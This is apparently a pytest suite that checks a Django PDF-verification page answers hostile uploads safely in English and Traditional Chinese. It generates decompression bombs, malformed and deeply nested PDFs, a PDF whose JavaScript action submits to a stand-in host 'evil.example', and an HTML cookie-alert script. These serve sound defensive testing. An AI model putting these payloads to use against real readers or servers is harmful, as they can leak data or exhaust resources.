"""Hostile uploads to the public verification page (issue 7): files over the limit (streamed,
never held whole), files that are not PDFs, PDFs with JavaScript actions, malformed PDFs
(a truncated cross-reference table, an endless /Prev chain, object streams that contain or
extend themselves, nesting thousands deep, absurd numbers), decompression bombs in a stream, an
empty file.

Promised: each gets a clear answer in the visitor's language (Traditional Chinese or English),
within BOUND_SECONDS and BOUND_MEMORY, and never a server error.
"""

from __future__ import annotations

import functools
import io
import re
import time
import tracemalloc
import zlib

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from django.utils.translation import gettext

URL = "/verify/"
BOUND_SECONDS = 5.0
BOUND_MEMORY = 160 * 1024 * 1024  # Python allocations while answering, at the default 20 MB limit

# What the page may answer for a file we did not issue (verification.check_pdf, uploads.py).
ANSWERS = [
    "This is not a PDF document, or it is too damaged to read.",
    "The file names no document we issued, and it carries no signature of ours.",
    "The file is signed, but not by us, and names no document we issued.",
    "The file is empty.",
    "Choose the PDF file to check.",
]


def pdf(objects: dict[int, bytes], trailer: bytes = b"/Root 1 0 R", *, xref: bool = True, startxref: int | None = None) -> bytes:
    """A PDF made by hand from numbered object bodies, with a correct xref table unless told."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number in sorted(objects):
        offsets[number] = out.tell()
        out.write(b"%d 0 obj\n" % number + objects[number] + b"\nendobj\n")
    where = out.tell()
    if xref:
        size = max(objects) + 1
        out.write(b"xref\n0 %d\n0000000000 65535 f \n" % size)
        for number in range(1, size):
            out.write(b"%010d 00000 n \n" % offsets.get(number, 0))
    out.write(b"trailer\n<< /Size %d " % (max(objects) + 1) + trailer + b" >>\n")
    out.write(b"startxref\n%d\n%%%%EOF\n" % (where if startxref is None else startxref))
    return out.getvalue()


def stream(data: bytes, extra: bytes = b"", *, compress: bool = True) -> bytes:
    body = zlib.compress(data, 9) if compress else data
    flt = b"/Filter /FlateDecode " if compress else b""
    return b"<< /Length %d " % len(body) + flt + extra + b" >>\nstream\n" + body + b"\nendstream"


@functools.cache
def bomb(inflated: int = 2 * 1024 ** 3) -> bytes:
    """Flate data that inflates to `inflated` zero bytes (2 GiB from about 2 MB by default)."""
    compressor = zlib.compressobj(9)
    chunk = b"\0" * (1024 * 1024)
    parts = [compressor.compress(chunk) for _ in range(inflated // len(chunk))]
    return b"".join(parts) + compressor.flush()


PAGE = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
        4: stream(b"BT /F1 12 Tf 72 720 Td (Transcript) Tj ET")}


def _bomb_stream(extra: bytes = b"") -> bytes:
    data = bomb()
    return b"<< /Length %d /Filter /FlateDecode " % len(data) + extra + b" >>\nstream\n" + data + b"\nendstream"


def _xref_stream_bomb() -> bytes:
    """A file whose cross-reference stream, which a reader must inflate, is a bomb."""
    head = b"%PDF-1.7\n"
    body = b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
    where = len(head) + len(body)
    xref = b"2 0 obj\n" + _bomb_stream(b"/Type /XRef /Size 3 /W [1 4 2] /Root 1 0 R") + b"\nendobj\n"
    return head + body + xref + b"startxref\n%d\n%%%%EOF\n" % where


def _cases() -> dict[str, bytes]:
    whole = pdf(PAGE)
    cut = whole.index(b"xref")
    return {
        "empty": b"",
        "text": b"Transcript of records\n" * 100,
        "png": b"\x89PNG\r\n\x1a\n" + b"\0" * 2000,
        "zip": b"PK\x03\x04" + b"\0" * 2000,
        "html with script": b"<html><script>alert(document.cookie)</script>%PDF-1.7</html>",
        "windows program": b"MZ\x90\0" + b"\0" * 4000,
        "javascript actions": pdf({
            1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R /AA << /WC 5 0 R >> /Names << /JavaScript 6 0 R >> >>",
            2: PAGE[2], 3: PAGE[3], 4: PAGE[4],
            5: b"<< /S /JavaScript /JS (app.alert\\('owned'\\); this.submitForm\\('http://evil.example'\\);) >>",
            6: b"<< /Names [(x) 5 0 R] >>",
        }),
        "truncated xref": whole[: cut + 30],
        "no xref, startxref past the end": pdf(PAGE, xref=False, startxref=10 ** 12),
        "endless /Prev chain": pdf(PAGE, trailer=b"/Root 1 0 R /Prev %d" % cut),
        "object stream that extends itself": pdf({
            **PAGE, 5: stream(b"6 0 7 10 << /A 5 0 R >> [6 0 R 5 0 R]", b"/Type /ObjStm /N 2 /First 9 /Extends 5 0 R"),
        }, trailer=b"/Root 1 0 R /Info 6 0 R"),
        "nested 200,000 deep": pdf({**PAGE, 5: b"[" * 200_000 + b"]" * 200_000}, trailer=b"/Root 1 0 R /Info 5 0 R"),
        "absurd numbers": pdf({**PAGE, 4: b"<< /Length 99999999999999999999999 >>\nstream\nxx\nendstream",
                               5: b"<< /Count 1e308 /Kids [99999999999 0 R] >>"}, trailer=b"/Root 1 0 R /Size 1e99"),
        "decompression bomb in a page": pdf({**PAGE, 4: _bomb_stream()}),
        "decompression bomb as the xref stream": _xref_stream_bomb(),
        "decompression bomb as an object stream": pdf({
            **PAGE, 5: _bomb_stream(b"/Type /ObjStm /N 1 /First 0")}),
    }


CASES = _cases()


def _measured(call):
    tracemalloc.start()
    started = time.monotonic()
    try:
        response = call()
    finally:
        elapsed = time.monotonic() - started
        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()
    return response, elapsed, peak


@pytest.fixture
def warm(client, db):
    """One request first: the first one of a process loads templates and the signing setup.
    The rate limit's counts (sealpost.accounts.throttle) start afresh."""
    from django.core.cache import cache

    cache.clear()
    client.get(URL)
    client.post(URL, {"file": SimpleUploadedFile("warm.pdf", b"%PDF-1.7", content_type="application/pdf")})


@pytest.mark.parametrize("name", list(CASES))
def test_a_hostile_upload_gets_a_clear_answer_in_bounded_time_and_memory(client, warm, name):
    data = CASES[name]
    for language in ("en", "zh-hant"):
        upload = SimpleUploadedFile("document.pdf", data, content_type="application/pdf")
        response, elapsed, peak = _measured(lambda: client.post(URL, {"file": upload}, HTTP_ACCEPT_LANGUAGE=language))
        print(f"{name} [{language}]: {len(data):,} bytes, {response.status_code}, {elapsed:.2f} s, peak {peak / 2**20:.1f} MiB")
        assert response.status_code in (200, 400), response.status_code
        assert elapsed < BOUND_SECONDS, f"{elapsed:.1f} s"
        assert peak < BOUND_MEMORY, f"{peak / 2**20:.0f} MiB"
        page = response.content.decode()
        with translation.override(language):
            said = [gettext(answer) for answer in ANSWERS if gettext(answer) in page]
        assert said, f"no answer that a person can act on, in {language}"
        if language == "zh-hant" and said != ["The file is empty."]:  # its translation waits in /work/i18n/h5.po
            assert all(re.search("[\u4e00-\u9fff]", s) for s in said), said
        if response.status_code == 200:
            assert re.search(r'data-status="unknown"', page)
        assert "app.alert" not in page and "<script>alert" not in page  # nothing of the file is echoed


@pytest.mark.parametrize("name", ["truncated xref", "decompression bomb as the xref stream", "javascript actions"])
def test_the_api_answers_hostile_uploads_in_its_shape(client, warm, name):
    upload = SimpleUploadedFile("document.pdf", CASES[name], content_type="application/pdf")
    response, elapsed, peak = _measured(lambda: client.post("/api/v1/verify", {"file": upload}, HTTP_ACCEPT_LANGUAGE="en"))
    assert response.status_code == 200 and response.json()["status"] == "unknown"
    assert elapsed < BOUND_SECONDS and peak < BOUND_MEMORY


def test_an_issued_document_cut_short_is_tampered_not_an_error(client, document, issued_pdf):
    for data in (issued_pdf[: len(issued_pdf) // 2], issued_pdf[:-40], issued_pdf[:2000]):
        upload = SimpleUploadedFile("document.pdf", data, content_type="application/pdf")
        response, elapsed, peak = _measured(lambda: client.post(URL, {"file": upload}, HTTP_ACCEPT_LANGUAGE="en"))
        assert response.status_code == 200
        assert re.search(r'data-status="(tampered|unknown)"', response.content.decode())
        assert elapsed < BOUND_SECONDS and peak < BOUND_MEMORY


class Streamed(io.RawIOBase):
    """A request body of `size` bytes made up as it is read: the test never holds it whole."""

    def __init__(self, head: bytes, size: int, tail: bytes):
        self.head, self.size, self.tail, self.at = head, size, tail, 0

    def readable(self):
        return True

    def readinto(self, buffer):
        n = min(len(buffer), self.size - self.at)
        if n <= 0:
            return 0
        chunk = bytearray(n)
        start = self.at
        head_end, tail_start = len(self.head), self.size - len(self.tail)
        for source, s, e in ((self.head, 0, head_end), (self.tail, tail_start, self.size)):
            lo, hi = max(start, s), min(start + n, e)
            if lo < hi:
                chunk[lo - start:hi - start] = source[lo - s:hi - s]
        buffer[:n] = chunk
        self.at += n
        return n


def _streamed_upload(size: int) -> tuple[Streamed, int]:
    head = (b"--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\n"
            b"Content-Type: application/pdf\r\n\r\n%PDF-1.7\n")
    tail = b"\r\n--B--\r\n"
    return Streamed(head, size, tail), size


@pytest.mark.parametrize("size", [50 * 1024 * 1024, 20 * 1024 * 1024 + 10_000], ids=["50 MB", "just over 20 MB"])
def test_a_huge_streamed_upload_is_refused_with_bounded_memory(client, warm, settings, size):
    """50 MB: refused by its declared length, read and thrown away unkept. Just over the limit
    (within the form's envelope): refused while it is read, by the upload handler that counts."""
    settings.VERIFY_MAX_UPLOAD = 20 * 1024 * 1024
    body, size = _streamed_upload(size)
    response, elapsed, peak = _measured(lambda: client.generic(
        "POST", URL, b"", content_type="multipart/form-data; boundary=B", HTTP_ACCEPT_LANGUAGE="zh-hant",
        # With no `data`, the test client sets no content type: it is given with the stream.
        **{"wsgi.input": io.BufferedReader(body, 64 * 1024), "CONTENT_LENGTH": str(size),
           "CONTENT_TYPE": "multipart/form-data; boundary=B"}))
    print(f"{size:,} bytes streamed: {response.status_code}, {elapsed:.2f} s, peak {peak / 2**20:.1f} MiB")
    assert response.status_code == 413
    from django.utils.html import escape

    from sealpost.documents.verification import TooLarge

    with translation.override("zh-hant"):
        said = escape(str(TooLarge(size)))
    assert re.search("[\u4e00-\u9fff]", said) and said in response.content.decode()
    assert elapsed < BOUND_SECONDS
    assert peak < 64 * 1024 * 1024  # never the whole body: at most what Django keeps of a file in memory, and less
